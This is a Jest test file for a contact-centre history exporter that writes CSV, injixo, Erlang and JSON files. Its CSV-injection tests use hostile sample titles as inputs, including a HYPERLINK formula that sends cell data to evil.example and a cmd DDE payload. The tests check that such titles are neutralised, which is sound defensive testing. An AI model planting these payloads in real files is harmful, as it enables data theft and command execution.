import { describe, expect, it } from '@jest/globals';
import {
  erlangCsv,
  historyCsv,
  historyJson,
  injixoCsv,
  queuesFile,
  queuesFileContent,
  roundedTo,
  secondsCell,
} from '../../../cli/history-files.js';
import {
  queueSeries,
  type HistoryQueue,
  type Per,
  type QueueSeries,
} from '../../../shared/domain/queue-series.js';

/** A queue as a report reads it: with its stable id, which `queueSeries` carries into the files. */
type IdentifiedQueue = HistoryQueue & { readonly id: string };

const talk: IdentifiedQueue = {
  id: 'talk:ivr:Sales',
  name: 'Calls Inbound For Sales',
  channel: 'call',
  source: 'talk',
  intervals: [
    { start: '2026-03-29T00:00:00.000Z', contacts: 3, handled: 3, handleTimeSeconds: 1000 },
    { start: '2026-03-29T01:00:00.000Z', contacts: 1, handled: 0, handleTimeSeconds: 0 },
  ],
};
/** A name with the characters RFC 4180 quotes: a quote, a comma, parentheses. */
const support: IdentifiedQueue = {
  id: 'support:7:email',
  name: 'Support "Tier 1", EMEA (email)',
  channel: 'email',
  source: 'support',
  viewId: 7,
  intervals: [{ start: '2026-03-29T00:00:00.000Z', contacts: 2, support: { reopens: 1 } }],
  // Four tickets waiting before the period; one more with the interval's contacts; two solved in
  // the quiet interval after it.
  backlogSteps: [
    { start: '2026-03-28T23:30:00.000Z', backlog: 4 },
    { start: '2026-03-29T00:00:00.000Z', backlog: 5 },
    { start: '2026-03-29T00:30:00.000Z', backlog: 3 },
  ],
};
/** The same queue as recorded before reopens and the backlog (queue-history schema 1 or 2). */
const supportBeforeBacklog: IdentifiedQueue = {
  id: 'support:8:chat',
  name: 'Billing (chat)',
  channel: 'chat',
  source: 'support',
  viewId: 8,
  intervals: [{ start: '2026-03-29T00:00:00.000Z', contacts: 2 }],
};

const seriesOf = (queues: HistoryQueue[], per: Per = 'interval', timeZone = 'UTC') =>
  queues.map((q) =>
    queueSeries(q, {
      fromMs: Date.parse('2026-03-29T00:00:00Z'),
      toMs: Date.parse('2026-03-29T01:30:00Z'),
      intervalMinutes: 30,
      per,
      timeZone,
    }),
  );

/** The period of one 30-minute interval: one row per queue, and the csv's total. */
const oneInterval = (queues: HistoryQueue[]) =>
  queues.map((q) =>
    queueSeries(q, {
      fromMs: Date.parse('2026-03-29T00:00:00Z'),
      toMs: Date.parse('2026-03-29T00:30:00Z'),
      intervalMinutes: 30,
      per: 'interval',
      timeZone: 'UTC',
    }),
  );

/** A Support queue of a view, as Zendesk names it: `{title} ({channel})`, one contact. */
const viewQueue = (viewId: number, title: string, channel = 'email'): IdentifiedQueue => ({
  id: `support:${viewId}:${channel}`,
  name: `${title} (${channel})`,
  channel,
  source: 'support',
  viewId,
  intervals: [{ start: '2026-03-29T00:00:00.000Z', contacts: 1 }],
});

const lines = (...l: string[]) => `${l.join('\r\n')}\r\n`;

const CSV_HEADER_LINE =
  'queue,channel,source,interval_start_utc,interval_start_local,offered,handled,handle_time_seconds,aht_seconds,reopens,backlog,queue_id,view_id';
const INJIXO_HEADER_LINE = 'queue,timestamp,offered,handled,aht,channel';

describe('history files', () => {
  const rows: [rule: string, actual: () => string, expected: string][] = [
    [
      "csv: one row per queue and interval, UTC and local start, zeros for quiet intervals, a total row per queue, the queue's id and view id last; RFC 4180 quoting and CRLF",
      () => historyCsv(seriesOf([support, talk]), 'Europe/Berlin'),
      lines(
        CSV_HEADER_LINE,
        '"Support ""Tier 1"", EMEA (email)",email,support,2026-03-29T00:00:00.000Z,2026-03-29T01:00:00+01:00,2,,,,1,5,support:7:email,7',
        '"Support ""Tier 1"", EMEA (email)",email,support,2026-03-29T00:30:00.000Z,2026-03-29T01:30:00+01:00,0,,,,0,3,support:7:email,7',
        '"Support ""Tier 1"", EMEA (email)",email,support,2026-03-29T01:00:00.000Z,2026-03-29T03:00:00+02:00,0,,,,0,3,support:7:email,7',
        '"Support ""Tier 1"", EMEA (email)",email,support,total,,2,,,,1,3,support:7:email,7',
        'Calls Inbound For Sales,call,talk,2026-03-29T00:00:00.000Z,2026-03-29T01:00:00+01:00,3,3,1000,333.33,,,talk:ivr:Sales,',
        'Calls Inbound For Sales,call,talk,2026-03-29T00:30:00.000Z,2026-03-29T01:30:00+01:00,0,0,0,,,,talk:ivr:Sales,',
        'Calls Inbound For Sales,call,talk,2026-03-29T01:00:00.000Z,2026-03-29T03:00:00+02:00,1,0,0,,,,talk:ivr:Sales,',
        'Calls Inbound For Sales,call,talk,total,,4,3,1000,333.33,,,talk:ivr:Sales,',
      ),
    ],
    [
      'csv --per hour: sums in the time zone; AHT of the sum is handle time over handled',
      () => historyCsv(seriesOf([talk], 'hour', 'Europe/Berlin'), 'Europe/Berlin'),
      lines(
        CSV_HEADER_LINE,
        'Calls Inbound For Sales,call,talk,2026-03-29T00:00:00.000Z,2026-03-29T01:00:00+01:00,3,3,1000,333.33,,,talk:ivr:Sales,',
        'Calls Inbound For Sales,call,talk,2026-03-29T01:00:00.000Z,2026-03-29T03:00:00+02:00,1,0,0,,,,talk:ivr:Sales,',
        'Calls Inbound For Sales,call,talk,total,,4,3,1000,333.33,,,talk:ivr:Sales,',
      ),
    ],
    [
      "csv --per hour of a Support queue: reopens summed, the backlog at the hour's last interval's end (a quiet interval carries it on); the total's at the period's end",
      () => historyCsv(seriesOf([support], 'hour', 'UTC'), 'UTC'),
      lines(
        CSV_HEADER_LINE,
        '"Support ""Tier 1"", EMEA (email)",email,support,2026-03-29T00:00:00.000Z,2026-03-29T00:00:00+00:00,2,,,,1,3,support:7:email,7',
        '"Support ""Tier 1"", EMEA (email)",email,support,2026-03-29T01:00:00.000Z,2026-03-29T01:00:00+00:00,0,,,,0,3,support:7:email,7',
        '"Support ""Tier 1"", EMEA (email)",email,support,total,,2,,,,1,3,support:7:email,7',
      ),
    ],
    [
      'csv of a Support history recorded before reopens and the backlog: those cells empty (not known), never 0',
      () => historyCsv(seriesOf([supportBeforeBacklog], 'hour', 'UTC'), 'UTC'),
      lines(
        CSV_HEADER_LINE,
        'Billing (chat),chat,support,2026-03-29T00:00:00.000Z,2026-03-29T00:00:00+00:00,2,,,,,,support:8:chat,8',
        'Billing (chat),chat,support,2026-03-29T01:00:00.000Z,2026-03-29T01:00:00+00:00,0,,,,,,support:8:chat,8',
        'Billing (chat),chat,support,total,,2,,,,,,support:8:chat,8',
      ),
    ],
    [
      "injixo: queue, wall-clock timestamp in the zone, offered, handled, whole-second AHT (0 when none handled), injixo's channel names; Support's unknown handled/AHT empty; no total row",
      () => injixoCsv(seriesOf([support, talk]), 'UTC'),
      lines(
        'queue,timestamp,offered,handled,aht,channel',
        '"Support ""Tier 1"", EMEA (email)",2026-03-29 00:00:00,2,,,emails',
        '"Support ""Tier 1"", EMEA (email)",2026-03-29 00:30:00,0,,,emails',
        '"Support ""Tier 1"", EMEA (email)",2026-03-29 01:00:00,0,,,emails',
        'Calls Inbound For Sales,2026-03-29 00:00:00,3,3,333,calls',
        'Calls Inbound For Sales,2026-03-29 00:30:00,0,0,0,calls',
        'Calls Inbound For Sales,2026-03-29 01:00:00,1,0,0,calls',
      ),
    ],
    [
      'erlang: local start with offset, volume, AHT seconds (0 when none handled), interval minutes',
      () => erlangCsv(seriesOf([talk])[0]!, 'Europe/Berlin'),
      lines(
        'interval_start,volume,aht_seconds,interval_minutes',
        '2026-03-29T01:00:00+01:00,3,333.33,30',
        '2026-03-29T01:30:00+01:00,0,0,30',
        '2026-03-29T03:00:00+02:00,1,0,30',
      ),
    ],
    [
      'erlang --per day: the row covers the minutes of the period in that day',
      () => erlangCsv(seriesOf([talk], 'day', 'Europe/Berlin')[0]!, 'Europe/Berlin'),
      lines('interval_start,volume,aht_seconds,interval_minutes', '2026-03-29T01:00:00+01:00,4,333.33,90'),
    ],
    [
      'erlang of a Support queue: no handle time, so no AHT',
      () => erlangCsv(seriesOf([support])[0]!, 'UTC'),
      lines(
        'interval_start,volume,aht_seconds,interval_minutes',
        '2026-03-29T00:00:00+00:00,2,,30',
        '2026-03-29T00:30:00+00:00,0,,30',
        '2026-03-29T01:00:00+00:00,0,,30',
      ),
    ],
    [
      'a line break in a queue name is quoted, not a new record',
      () =>
        injixoCsv(
          seriesOf([{ ...support, name: 'Two\nlines' }]).map((s) => ({ ...s, rows: s.rows.slice(0, 1) })),
          'UTC',
        ),
      lines('queue,timestamp,offered,handled,aht,channel', '"Two\nlines",2026-03-29 00:00:00,2,,,emails'),
    ],
  ];
  it.each(rows)('%s', (_rule, actual, expected) => {
    expect(actual()).toBe(expected);
  });

  it('json: the csv rows as typed fields, every interval of the period and the total per queue; a field absent where the csv cell is empty', () => {
    const at = (utc: string, local: string) => ({ start: utc, startLocal: local, minutes: 30 });
    expect(JSON.parse(historyJson(seriesOf([support, talk]), 'Europe/Berlin'))).toEqual([
      {
        queue: {
          id: 'support:7:email',
          name: 'Support "Tier 1", EMEA (email)',
          channel: 'email',
          source: 'support',
          viewId: 7,
        },
        rows: [
          {
            ...at('2026-03-29T00:00:00.000Z', '2026-03-29T01:00:00+01:00'),
            offered: 2,
            reopens: 1,
            backlog: 5,
          },
          {
            ...at('2026-03-29T00:30:00.000Z', '2026-03-29T01:30:00+01:00'),
            offered: 0,
            reopens: 0,
            backlog: 3,
          },
          {
            ...at('2026-03-29T01:00:00.000Z', '2026-03-29T03:00:00+02:00'),
            offered: 0,
            reopens: 0,
            backlog: 3,
          },
        ],
        total: {
          ...at('2026-03-29T00:00:00.000Z', '2026-03-29T01:00:00+01:00'),
          minutes: 90,
          offered: 2,
          reopens: 1,
          backlog: 3,
        },
      },
      {
        queue: { id: 'talk:ivr:Sales', name: 'Calls Inbound For Sales', channel: 'call', source: 'talk' },
        rows: [
          {
            ...at('2026-03-29T00:00:00.000Z', '2026-03-29T01:00:00+01:00'),
            offered: 3,
            handled: 3,
            handleTimeSeconds: 1000,
            ahtSeconds: 1000 / 3,
          },
          {
            ...at('2026-03-29T00:30:00.000Z', '2026-03-29T01:30:00+01:00'),
            offered: 0,
            handled: 0,
            handleTimeSeconds: 0,
          },
          {
            ...at('2026-03-29T01:00:00.000Z', '2026-03-29T03:00:00+02:00'),
            offered: 1,
            handled: 0,
            handleTimeSeconds: 0,
          },
        ],
        total: {
          ...at('2026-03-29T00:00:00.000Z', '2026-03-29T01:00:00+01:00'),
          minutes: 90,
          offered: 4,
          handled: 3,
          handleTimeSeconds: 1000,
          ahtSeconds: 1000 / 3,
        },
      },
    ]);
  });

  const cells: [rule: string, value: number, expected: number][] = [
    ['whole seconds stay whole', 300, 300],
    ['two decimals at most', 1000 / 3, 333.33],
    ['no trailing zeros', 12.5, 12.5],
    ['a half of the second decimal rounds up though 1.005 is 1.00499… in binary', 1.005, 1.01],
    ['a half rounds up where value × 100 falls below it in binary (0.145 × 100 is 14.499…)', 0.145, 0.15],
    ['a half rounds up where adding Number.EPSILON before × 100 is too little (2.135)', 2.135, 2.14],
    ['a half rounds up on larger values too (1234.215)', 1234.215, 1234.22],
    ['below a half rounds down', 1.0049, 1],
    ['a value printed with an exponent rounds too', 1e-7, 0],
  ];
  it.each(cells)('seconds: %s', (_rule, value, expected) => {
    expect(secondsCell(value)).toBe(expected);
  });

  const rounded: [rule: string, value: number, places: number, expected: number][] = [
    ['whole seconds: a half rounds up', 2.5, 0, 3],
    ['whole seconds: below a half rounds down', 2.4999, 0, 2],
    ['a negative half rounds away from zero, as its positive does', -1.005, 2, -1.01],
    ['a large value keeps its digits', 1e21, 2, 1e21],
  ];
  it.each(rounded)('rounding: %s', (_rule, value, places, expected) => {
    expect(roundedTo(value, places)).toBe(expected);
  });
});

/** The csv and injixo files of view 1's email queue over one interval, its name written as `cell`. */
const filesOfView1 = (cell: string) => ({
  csv: lines(
    CSV_HEADER_LINE,
    `${cell},email,support,2026-03-29T00:00:00.000Z,2026-03-29T00:00:00+00:00,1,,,,,,support:1:email,1`,
    `${cell},email,support,total,,1,,,,,,support:1:email,1`,
  ),
  injixo: lines(INJIXO_HEADER_LINE, `${cell},2026-03-29 00:00:00,1,,,emails`),
});

describe('a view title that a spreadsheet would run as a formula (CSV injection)', () => {
  const titles: [rule: string, title: string, cell: string][] = [
    [
      'a view title starting with = is written as text, not a formula',
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"") (email)"`,
    ],
    [
      'a view title starting with + is written as text, not a formula',
      "+1+cmd|' /C calc'!A0",
      "'+1+cmd|' /C calc'!A0 (email)",
    ],
    ['a view title starting with - is written as text, not a formula', '-2+3', "'-2+3 (email)"],
    ['a view title starting with @ is written as text, not a formula', '@SUM(1+1)', "'@SUM(1+1) (email)"],
    ['a view title starting with a tab is written as text, not a formula', '\t=1+1', "'\t=1+1 (email)"],
    [
      'a view title starting with a carriage return is written as text, quoted as a line break is',
      '\r=1+1',
      `"'\r=1+1 (email)"`,
    ],
    [
      'a view title starting with a full-width = (Apple Numbers reads it as =) is written as text',
      '\uFF1D1+1',
      "'\uFF1D1+1 (email)",
    ],
    [
      'a legitimate title starting with - is prefixed too: a file cannot tell it from a formula',
      '- Escalations -',
      "'- Escalations - (email)",
    ],
    [
      'a title with = inside, not first, is written as it is',
      'Priority = urgent',
      'Priority = urgent (email)',
    ],
  ];
  it.each(titles)('%s', (_rule, title, cell) => {
    const queue = viewQueue(1, title);
    const expected = filesOfView1(cell);
    expect([historyCsv(oneInterval([queue]), 'UTC'), injixoCsv(oneInterval([queue]), 'UTC')]).toEqual([
      expected.csv,
      expected.injixo,
    ]);
  });

  it("a Talk queue named for a phone number starts with 'Calls Inbound For', so its + is not first and the name stays as it is", () => {
    const phone: IdentifiedQueue = {
      id: 'talk:phone_number:+49123456789',
      name: 'Calls Inbound For +49123456789',
      channel: 'call',
      source: 'talk',
      intervals: [{ start: '2026-03-29T00:00:00.000Z', contacts: 1, handled: 1, handleTimeSeconds: 90 }],
    };
    expect([historyCsv(oneInterval([phone]), 'UTC'), injixoCsv(oneInterval([phone]), 'UTC')]).toEqual([
      lines(
        CSV_HEADER_LINE,
        'Calls Inbound For +49123456789,call,talk,2026-03-29T00:00:00.000Z,2026-03-29T00:00:00+00:00,1,1,90,90,,,talk:phone_number:+49123456789,',
        'Calls Inbound For +49123456789,call,talk,total,,1,1,90,90,,,talk:phone_number:+49123456789,',
      ),
      lines(INJIXO_HEADER_LINE, 'Calls Inbound For +49123456789,2026-03-29 00:00:00,1,1,90,calls'),
    ]);
  });

  it('a number cell is never prefixed, negative or not: only text can be a formula', () => {
    const [one] = oneInterval([talk]);
    const negative: QueueSeries = { ...one!, rows: [{ ...one!.rows[0]!, handled: 1, ahtSeconds: -1.5 }] };
    expect(erlangCsv(negative, 'UTC')).toBe(
      lines('interval_start,volume,aht_seconds,interval_minutes', '2026-03-29T00:00:00+00:00,3,-1.5,30'),
    );
  });
});

describe('two queues of one name (Zendesk lets views share a title)', () => {
  const first = viewQueue(360100017, 'Support Tickets');
  const second = viewQueue(360100018, 'Support Tickets');
  const warningFor = (id: string, name: string, owner: string, taken: string) =>
    `${id} is written as "${name}": another queue of the file (${owner}) is named "${taken}" (Zendesk lets views share a title; give them different titles to choose the names)`;

  const files: [
    rule: string,
    queues: HistoryQueue[],
    format: 'csv' | 'injixo',
    content: string,
    warnings: string[],
  ][] = [
    [
      'csv: the first keeps the name, the later one gets its view id before the channel; the queue_id column tells them apart',
      [first, second],
      'csv',
      lines(
        CSV_HEADER_LINE,
        'Support Tickets (email),email,support,2026-03-29T00:00:00.000Z,2026-03-29T00:00:00+00:00,1,,,,,,support:360100017:email,360100017',
        'Support Tickets (email),email,support,total,,1,,,,,,support:360100017:email,360100017',
        'Support Tickets #360100018 (email),email,support,2026-03-29T00:00:00.000Z,2026-03-29T00:00:00+00:00,1,,,,,,support:360100018:email,360100018',
        'Support Tickets #360100018 (email),email,support,total,,1,,,,,,support:360100018:email,360100018',
      ),
      [
        warningFor(
          'support:360100018:email',
          'Support Tickets #360100018 (email)',
          'support:360100017:email',
          'Support Tickets (email)',
        ),
      ],
    ],
    [
      "injixo: two queues of one name would be one injixo queue; the later one gets its view id, injixo's fixed columns unchanged",
      [first, second],
      'injixo',
      lines(
        INJIXO_HEADER_LINE,
        'Support Tickets (email),2026-03-29 00:00:00,1,,,emails',
        'Support Tickets #360100018 (email),2026-03-29 00:00:00,1,,,emails',
      ),
      [
        warningFor(
          'support:360100018:email',
          'Support Tickets #360100018 (email)',
          'support:360100017:email',
          'Support Tickets (email)',
        ),
      ],
    ],
    [
      'names differing only in case are one name to a pivot table, so they are made unique too',
      [first, viewQueue(5, 'support tickets')],
      'injixo',
      lines(
        INJIXO_HEADER_LINE,
        'Support Tickets (email),2026-03-29 00:00:00,1,,,emails',
        'support tickets #5 (email),2026-03-29 00:00:00,1,,,emails',
      ),
      [
        warningFor(
          'support:5:email',
          'support tickets #5 (email)',
          'support:360100017:email',
          'Support Tickets (email)',
        ),
      ],
    ],
    [
      'one view in two channels is two names already: nothing changes, no warning',
      [first, viewQueue(360100017, 'Support Tickets', 'chat')],
      'injixo',
      lines(
        INJIXO_HEADER_LINE,
        'Support Tickets (email),2026-03-29 00:00:00,1,,,emails',
        'Support Tickets (chat),2026-03-29 00:00:00,1,,,chats',
      ),
      [],
    ],
    [
      "a view titled like another's made-up name does not get it twice: the made-up one is numbered",
      [viewQueue(9, 'Support Tickets #360100018'), first, second],
      'injixo',
      lines(
        INJIXO_HEADER_LINE,
        'Support Tickets #360100018 (email),2026-03-29 00:00:00,1,,,emails',
        'Support Tickets (email),2026-03-29 00:00:00,1,,,emails',
        'Support Tickets #360100018 (email) ~2,2026-03-29 00:00:00,1,,,emails',
      ),
      [
        warningFor(
          'support:360100018:email',
          'Support Tickets #360100018 (email) ~2',
          'support:360100017:email',
          'Support Tickets (email)',
        ),
      ],
    ],
    [
      'two Talk queues of one name (a grouping changed) get their queue ids, having no view',
      [
        { ...talk, intervals: talk.intervals.slice(0, 1) },
        { ...talk, id: 'talk:group:Sales', intervals: talk.intervals.slice(0, 1) },
      ],
      'injixo',
      lines(
        INJIXO_HEADER_LINE,
        'Calls Inbound For Sales,2026-03-29 00:00:00,3,3,333,calls',
        'Calls Inbound For Sales #talk:group:Sales,2026-03-29 00:00:00,3,3,333,calls',
      ),
      [
        warningFor(
          'talk:group:Sales',
          'Calls Inbound For Sales #talk:group:Sales',
          'talk:ivr:Sales',
          'Calls Inbound For Sales',
        ),
      ],
    ],
    [
      'a title that is a formula and taken is both made unique and written as text',
      [viewQueue(1, '=cmd'), viewQueue(2, '=cmd')],
      'injixo',
      lines(
        INJIXO_HEADER_LINE,
        "'=cmd (email),2026-03-29 00:00:00,1,,,emails",
        "'=cmd #2 (email),2026-03-29 00:00:00,1,,,emails",
      ),
      [warningFor('support:2:email', '=cmd #2 (email)', 'support:1:email', '=cmd (email)')],
    ],
  ];
  it.each(files)('%s', (_rule, queues, format, content, warnings) => {
    expect(queuesFileContent(format, oneInterval(queues), 'UTC')).toEqual({ content, warnings });
  });

  it('json keeps both names as they are, each with its id and view id, and warns of nothing', () => {
    const { content, warnings } = queuesFileContent('json', oneInterval([first, second]), 'UTC');
    expect([(JSON.parse(content) as { queue: unknown }[]).map((q) => q.queue), warnings]).toEqual([
      [
        {
          id: 'support:360100017:email',
          name: 'Support Tickets (email)',
          channel: 'email',
          source: 'support',
          viewId: 360100017,
        },
        {
          id: 'support:360100018:email',
          name: 'Support Tickets (email)',
          channel: 'email',
          source: 'support',
          viewId: 360100018,
        },
      ],
      [],
    ]);
  });

  it('written queue by queue, the later queue is renamed as it is added and end() returns the warning', () => {
    const pieces: string[] = [];
    const file = queuesFile('injixo', 'UTC', (text) => pieces.push(text));
    const [a, b] = oneInterval([first, second]);
    file.add(a!);
    file.add(b!);
    expect([pieces.join(''), file.end()]).toEqual([
      queuesFileContent('injixo', [a!, b!], 'UTC').content,
      [
        warningFor(
          'support:360100018:email',
          'Support Tickets #360100018 (email)',
          'support:360100017:email',
          'Support Tickets (email)',
        ),
      ],
    ]);
  });

  it('injixo: a queue with no row in the period is not in the file, so it takes no name and warns of nothing', () => {
    const [a, b] = oneInterval([first, second]);
    expect(queuesFileContent('injixo', [{ ...a!, rows: [] }, b!], 'UTC')).toEqual({
      content: lines(INJIXO_HEADER_LINE, 'Support Tickets (email),2026-03-29 00:00:00,1,,,emails'),
      warnings: [],
    });
  });
});

describe('a file of many queues written queue by queue', () => {
  it.each(['csv', 'injixo', 'json'] as const)(
    '%s: the header at once, each queue as it is added, and the pieces join into the whole file',
    (format) => {
      const [first, second] = seriesOf([support, talk], 'interval', 'Europe/Berlin');
      const pieces: string[] = [];
      const file = queuesFile(format, 'Europe/Berlin', (text) => pieces.push(text));
      const whole = { csv: historyCsv, injixo: injixoCsv, json: historyJson }[format];
      // A CSV's header is written before any queue is read; a JSON list waits for its first one.
      expect(pieces).toEqual(format === 'json' ? [] : [whole([], 'Europe/Berlin')]);
      file.add(first!);
      const afterFirst = pieces.join('');
      // Only the first queue so far: the file holds its rows and nothing of the second's.
      expect(afterFirst).toContain('Support');
      expect(afterFirst).not.toContain('Calls Inbound For Sales');
      file.add(second!);
      file.end();
      expect(pieces.join('')).toBe(whole([first!, second!], 'Europe/Berlin'));
    },
  );

  it.each(['csv', 'injixo', 'json'] as const)('%s without a queue is the file of none', (format) => {
    const pieces: string[] = [];
    const file = queuesFile(format, 'UTC', (text) => pieces.push(text));
    file.end();
    expect(pieces.join('')).toBe(
      format === 'json'
        ? '[]\n'
        : format === 'csv'
          ? lines(CSV_HEADER_LINE)
          : lines('queue,timestamp,offered,handled,aht,channel'),
    );
  });
});
